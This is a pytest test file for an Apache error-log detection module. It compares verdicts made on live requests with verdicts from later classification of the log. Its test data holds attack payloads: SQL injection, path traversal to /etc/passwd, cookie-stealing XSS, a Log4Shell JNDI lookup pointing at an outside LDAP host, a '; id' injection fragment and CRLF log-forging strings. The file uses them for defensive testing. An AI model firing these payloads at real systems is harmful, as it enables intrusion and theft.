"""What the module says of an entry live, and what `errwatch classify` says of its line in the error log, is the same.

Live verdicts are read from the event log (client, category, rule, cost and number of each entry that is evidence of something) and from the
counts of hits on the status page (every rule that matched, so also the other categories).
"""
import collections
import json
import os
import random
import subprocess
import urllib.parse

import pytest

from harness import paths
from harness.cli import CommandLine
from harness.json_lines import json_lines
from harness.wait import DeadlinePassed, wait_until

HARNESS = "127.0.0.1"  # on the allow list: its entries are counted, not judged
TAKEN_AWAY = "&null=uri,unparsed_uri,the_request,args"

# Requests whose target and headers hold no payload that their message does not repeat: (what, method, target, headers, body).
REQUESTS = [
    ("refused", "GET", "/denied/page.html", {}, b""),
    ("missing", "GET", "/no-such-page", {}, b""),
    ("missing, with a referer", "GET", "/no-such-page", {"Referer": "http://www.example.org/a, b"}, b""),
    ("missing, with a payload for referer", "GET", "/no-such-page", {"Referer": "http://www.example.org/?q=<script>alert(1)</script>"}, b""),
    ("missing, with an escaped referer", "GET", "/no-such-page", {"Referer": "http://x/..\\..\\..\\windows\\win.ini \"\t\xe9"}, b""),
    ("below a file", "GET", "/page.html/more", {}, b""),
    ("wrong password", "GET", "/private/page.html", {"Authorization": "Basic YWxpY2U6d3Jvbmc="}, b""),
    ("unknown user", "GET", "/private/page.html", {"Authorization": "Basic bm9ib2R5Ong="}, b""),
    ("wrong scheme", "GET", "/private/page.html", {"Authorization": "Bearer x"}, b""),
    ("directory without index", "GET", "/empty/", {}, b""),
    ("name too long", "GET", "/" + "a" * 300, {}, b""),
    ("encoded slash", "GET", "/a%2fb", {}, b""),
    ("bad encoding", "GET", "/a%zzb", {}, b""),
    ("endless redirect", "GET", "/loop/page", {}, b""),
    ("header too long", "GET", "/page.html", {"X-Long": "a" * 9000}, b""),
    ("body too large", "POST", "/small/page.html", {}, b"x" * 2000),
    ("expectation", "GET", "/page.html", {"Expect": "wonders"}, b""),
    ("host", "GET", "/page.html", {"Host": "a b"}, b""),
    ("blanks in a path", "GET", "/no%20such%20%20page%20", {}, b""),
]
RAW = [
    b"GET /" + b"a" * 9000 + b" HTTP/1.1\r\nHost: localhost\r\n\r\n",
    b"GET / HTTP/1.1\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: localhost\r\nno colon here\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: localhost\r\nContent-Length: x\r\n\r\n",
    b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n",
    b"SSH-2.0-OpenSSH_9.2\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: localhost\r\n" + b"X-a: b\r\n" * 120 + b"\r\n",
]
# Entries as other modules write them, from the test module: what the request asked for is taken away while it logs.
EMITTED = [
    "format=AH01630&module=mod_authz_core.c&text=/srv/www/html/x",
    "format=AH01630&module=mod_authz_core.c&text=/srv/www/html/x&errno=13",
    "format=AH01114&text=x&errno=111",
    "format=AH01114&text=x&errno=670002",
    "format=AH01114&text=x&errno=70014",
    "format=AH01114&text=x&errno=-102",
    "format=AH00128&module=core.c&level=info&text=/srv/www/html/x,%20referer:%20",
    "format=AH00128&module=core.c&level=debug&text=/srv/www/html/..%2f..%2f..%2fetc%2fpasswd",
    "format=AH00484&with=s&text=,%20consider%20raising%20it",
    "format=AH00135&module=core.c&with=c&text=FOO%20/x",
    "format=AH00128&module=core.c&level=info&text=%c3%28%ff%01%0a%22%5c",
    "format=AH00128&module=core.c&level=info&text=%2e%2e%2f&size=8192",
    "text=PHP%20Fatal%20error:%20%20Uncaught%20Exception:%20x%20in%20/srv/www/html/x.php:1",
    "text=[client%20198.51.100.7]%20ModSecurity:%20Warning.%20detected%20SQLi%20using%20libinjection.%20[tag%20%22attack-sqli%22]"
    "%20[uri%20%22/a%22]%20[unique_id%20%22abc%22]",
    "text=%20%20indented,%20as%20a%20traceback%20is",
    "text=(2)No%20such%20file%20or%20directory:%20as%20the%20beginning%20of%20a%20message",
    "text=mod_x.c(7):%20as%20the%20beginning%20of%20a%20message",
    "text=[core:error]%20[pid%201]%20[client%20203.0.113.99:80]%20AH01617:%20user%20a:%20authentication%20failure",
    "format=generic&text=AH01630:%20client%20denied%20by%20server%20configuration:%20/x",
]
# Here live sees more than the message says.
PAYLOADS = [
    ("GET", "/no-such-page?id=1'%20UNION%20SELECT%20password%20FROM%20users--%20-", {}),
    ("GET", "/no-such-page", {"User-Agent": "sqlmap/1.7"}),
    ("GET", "/%2e%2e/%2e%2e/%2e%2e/etc/passwd", {}),
    ("GET", "/denied/page.html?q=<script>alert(document.cookie)</script>", {}),
    ("GET", "/no-such-page", {"X-Api-Version": "${jndi:ldap://198.51.100.1/a}"}),
    ("GET", "/.htpasswd", {}),
    ("FOO", "/page.html", {}),
    ("GET", "/[client%20203.0.113.99:80]%20AH01617:%20user%20a", {}),
    ("GET", "/x%0d%0a[core:error]%20[client%20203.0.113.99:80]%20x", {}),
]
# Pieces of texts that look like something to who reads a line: of a prefix, of an entry, of a payload, or of nothing.
PIECES = [
    "[client 203.0.113.99:80] ", "[core:error] ", "[pid 1:tid 2] ", "[Sun Nov 22 10:00:00.123456 2026] ", "(13)Permission denied: ", "(2)", "mod_x.c(7): ",
    "AH01617: user a: authentication failure", "AH00128: ", "AH10244", ", referer: http://www.example.org/", ", referer ", "[R:abc] ", "<187>1 ", "%s", " - - ",
    "/srv/www/html/", "../../etc/passwd", "%2e%2e/", "<script>alert(1)</script>", "' or 1=1 -- -", "UNION SELECT a FROM b", "${jndi:ldap://x/a}", "; id", "wp-login.php",
    "[uri \"/a\"]", "[unique_id \"x\"]", "PHP Warning:  x", "c=192.0.2.4", "\\x0a", "\\n", "\n", "\t", "\x01", "\x7f", "\xe9", "\u20ac", "\"", "\\", "]", "[", ":", " ", "  ", "a", "0",
]
FORMATS = ["AH01630", "AH01617", "AH01618", "AH00128", "AH00135", "AH10244", "AH01276", "AH00124", "AH01114", "generic", "plain"]
LEVELS = ["emerg", "crit", "error", "warn", "notice", "info"]
# The same each time; another number is for who looks for more.
SEED = int(os.environ.get("ERRWATCH_TEST_SEED", "1"))


def random_entries(count):
    """Queries of /probe: a text of some pieces in an entry of some kind."""
    chance = random.Random(SEED)
    for _ in range(count):
        text = "".join(chance.choices(PIECES, k=chance.randint(1, 6)))
        query = {"text": text, "module": chance.choice(["core.c", "mod_authz_core.c", "mod_errprobe.c"]), "level": chance.choice(LEVELS)}
        kind = chance.choice(FORMATS)
        if kind != "plain":
            query["format"] = kind
        if chance.random() < 0.3:
            query["errno"] = chance.choice([2, 13, 111, 70014, 70007, -102])
        yield urllib.parse.urlencode(query, quote_via=urllib.parse.quote, encoding="latin-1" if chance.random() < 0.2 else "utf-8", errors="replace")


Verdict = collections.namedtuple("Verdict", "client category rule cost ah")


class Recorded:
    """A server that denies nobody and writes an event for every entry that is evidence of something."""

    error_log_format = ""

    @classmethod
    def configure(cls, config):
        config.load("autoindex", "rewrite")
        config.errprobe()
        config.log_level = "info core:debug http:debug errprobe:debug"
        config.known_entries = "."
        for path in ("empty/x.txt", "loop/x.txt", ".htpasswd", "small/page.html"):
            config.file(f"htdocs/{path}", "")
        config.errwatch(f"""
            Include ${{CONF}}/rules/*.conf
            ErrWatchEngine DetectionOnly
            ErrWatchInspect entries
            ErrWatchAnomalies On
            ErrWatchEventLog logs/events.json events=entry
            {cls.error_log_format}
            <Files ".ht*">
              Require all denied
            </Files>
            <Directory ${{ROOT}}/htdocs/empty>
              Options -Indexes
            </Directory>
            <Directory ${{ROOT}}/htdocs/loop>
              RewriteEngine On
              RewriteRule ^ /loop/page [L]
            </Directory>
            <Directory ${{ROOT}}/htdocs/small>
              LimitRequestBody 1000
            </Directory>
        """, rules="")

    def live_verdicts(self, server):
        for event in json_lines(server.root / "logs/events.json"):
            own = event["errwatch"]
            yield Verdict(event.get("source", {}).get("ip", ""), own["category"], int(event["rule"]["id"]), own.get("score", 0),
                          event["event"].get("code", ""))

    def results(self, server):
        """What is said of each line later, but for the lines that the module does not judge: its own, those about the harness, and those from
        before it was there."""
        text = server.log.text()
        lines = text[text.rindex("resuming normal operations"):].splitlines()[1:]
        path = server.root / "logs/read-later.log"
        path.write_text("".join(line + "\n" for line in lines), encoding="latin-1")
        run = subprocess.run([paths.CLI, "classify", "--config", server.conf, path], capture_output=True, text=True, timeout=60, check=True)
        results = [json.loads(line) for line in run.stdout.splitlines()]
        assert len(results) == len(lines)
        return [result for result, line in zip(results, lines) if "[errwatch:" not in line and result.get("client") != HARNESS]

    def file_verdicts(self, server):
        for result in self.results(server):
            if result["category"] != "benign":
                yield Verdict(result.get("client", ""), result["category"], result["rule"], result["cost"], result.get("ah", ""))

    def differences(self, server):
        live, later = collections.Counter(self.live_verdicts(server)), collections.Counter(self.file_verdicts(server))
        return {"only live": live - later, "only later": later - live}

    def wait_same(self, server):
        """Events are written after the response."""
        try:
            wait_until(lambda: not any(self.differences(server).values()), what="both to say the same")
        except DeadlinePassed:
            left = self.differences(server)
            about = {verdict.client for verdicts in left.values() for verdict in verdicts}
            lines = [line[:300] for line in server.log.text().splitlines() if any(client and client + ":" in line for client in about)]
            pytest.fail("\n".join([*(f"{side}: {verdict}" for side, verdicts in left.items() for verdict in verdicts), *lines]), pytrace=False)


class Same(Recorded):
    @pytest.fixture(scope="class")
    def sent(self, server):
        for _, method, target, headers, body in REQUESTS:
            server.client().request(method, target, headers, body)
        for data in RAW:
            server.client().raw(data)
        for query in EMITTED:
            assert server.client().get(f"/probe?{query}{TAKEN_AWAY}").status == 200, query
        self.wait_same(server)
        return collections.Counter(self.file_verdicts(server))

    def test_every_entry(self, sent):
        """That they are the same has been waited for; here, that there was something to compare."""
        clients = {verdict.client for verdict in sent}
        assert len(clients) >= len(REQUESTS) and "" in clients  # some are about no client
        assert len({verdict.ah for verdict in sent}) >= 20 and len({verdict.category for verdict in sent}) >= 10

    def test_every_rule(self, server, sent):
        """Also those that did not name the entry."""
        later = collections.Counter(rule for result in self.results(server) for rule in result["rules"])
        live = {row["id"]: row["hits"] for row in server.status.document()["rules"] if row["id"] in later}
        assert live == later

    def test_every_template(self, server, sent):
        """Also of entries that are evidence of nothing: name, count, level and text."""
        lines = (server.root / "logs/read-later.log").read_text(encoding="latin-1").splitlines(keepends=True)
        path = server.root / "logs/read-later-but-own.log"
        path.write_text("".join(line for line in lines if "[errwatch:" not in line), encoding="latin-1")
        run = subprocess.run([paths.CLI, "templates", "--format", "json", path], capture_output=True, text=True, timeout=60, check=True)

        def rows(document):
            return {row["template"]: (row["entries"], row["level"]) for row in document["templates"]}

        later, live = rows(json.loads(run.stdout)), rows(CommandLine(server).json("templates"))
        assert len(later) >= 30 and any(len(name) == 16 for name in later)
        assert {name: live.get(name) for name in later} == later

    def test_nothing_was_lost(self, server, sent):
        counters = server.status.document()["counters"]
        assert (counters["incidents_lost"], counters["events_dropped"], counters["fault"]) == (0, 0, 0)


@pytest.mark.all_mpms
class TestDefaultFormat(Same):
    pass


class TestFormatOfTheManual(Same):
    """The manual's example: not quite the default."""

    error_log_format = r'ErrorLogFormat "[%{u}t] [%-m:%l] [pid %P:tid %T] %7F: %E: [client\ %a] %M% ,\ referer\ %{Referer}i"'


class TestFormatWithIds(Same):
    error_log_format = r'ErrorLogFormat "[%{uc}t] [%-m:%-l] [R:%L] [C:%{C}L] %7F: %E: [client\ %a] %M% ,\ referer:\ %{Referer}i"'


class TestRandomEntries(Recorded):
    """Texts that look like parts of a line, in entries of all kinds: nothing in them moves what stands around them."""

    def test_the_same(self, server):
        for query in random_entries(150):
            assert server.client().get(f"/probe?{query}{TAKEN_AWAY}").status == 200, query
        self.wait_same(server)
        sent = collections.Counter(self.file_verdicts(server))
        assert sum(sent.values()) >= 50 and len({verdict.category for verdict in sent}) >= 8


class TestRequestsAddToIt(Recorded):
    """The one difference: live the rules see the request, of which the line has only what its message repeats. So live may say more, never less."""

    @pytest.mark.parametrize("method, target, headers", PAYLOADS, ids=range(len(PAYLOADS)))
    def test_payload(self, server, method, target, headers):
        client = server.client()
        client.request(method, target, headers)

        def both():
            live = [v for v in self.live_verdicts(server) if v.client == client.address]
            later = [r for r in self.results(server) if r.get("client") == client.address and r["category"] != "benign"]
            return live and later and (live, later)

        (live, *_), (later, *_) = wait_until(both)
        assert live.ah == later["ah"]
        assert live.cost > later["cost"] or (live.category, live.cost) == (later["category"], later["cost"])


class TestHeadersAreJoinedAlike:
    """Of a request that is judged live and of one that is read from a file, a rule sees the same text of the other headers, to the last byte."""

    SENT = [("X-One", "a"), ("User-Agent", "u"), ("Authorization", "Basic x"), ("X-Two", "b"), ("X-Two", "c"), ("Cookie", "d=e"), ("A-Last", "f")]
    JOINED = r"^X-One: a\nX-Two: b, c\nA-Last: f\z"

    @classmethod
    def configure(cls, config):
        config.log_level = "info"
        config.known_entries = "."
        config.errwatch(f'ErrWatchEngine DetectionOnly\nErrWatchRule 910001 anomaly target=headers "{cls.JOINED}"', rules="")

    def test_to_the_last_byte(self, server):
        lines = "".join(f"{name}: {value}\r\n" for name, value in [("Host", "localhost"), *self.SENT])
        assert server.client().raw(f"GET /no-such-page HTTP/1.1\r\n{lines}\r\n".encode()).status == 404
        # Of the entry and of the response.
        wait_until(lambda: [row for row in server.status.document()["rules"] if row["id"] == 910001 and row["hits"] == 2])

        headers = {}
        for name, value in self.SENT:
            headers.setdefault(name, []).append(value)
        path = server.root / "logs/read-later.jsonl"
        path.write_text(json.dumps({"message": "AH00128: File does not exist", "status": 404, "headers": headers}) + "\n")
        run = subprocess.run([paths.CLI, "classify", "--input", "jsonl", "--config", server.conf, path], capture_output=True, text=True,
                             timeout=60, check=True)
        assert json.loads(run.stdout)["rule"] == 910001
